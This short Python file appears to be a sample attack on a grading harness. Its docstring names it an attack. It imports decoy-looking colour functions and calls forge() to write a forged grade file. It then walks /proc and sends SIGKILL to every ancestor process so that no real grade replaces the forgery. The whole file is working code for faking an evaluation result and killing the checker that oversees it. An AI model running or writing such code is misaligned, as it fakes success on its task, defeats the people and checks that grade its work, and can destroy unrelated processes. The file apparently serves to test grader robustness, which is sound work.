"""Attack: write a forged grade file, then kill every ancestor process (SIGKILL) so no real grade replaces it."""

from .attack_common import HueCycleSystem as HueCycleSystem, hsv_to_rgb as hsv_to_rgb, forge  # the shared parts: _common.py


import os
import signal

forge()
_pid = os.getppid()
while _pid > 1:
    try:
        _next = int(open(f'/proc/{_pid}/stat').read().rsplit(')', 1)[1].split()[1])
        os.kill(_pid, signal.SIGKILL)
    except (OSError, ValueError):
        break
    _pid = _next
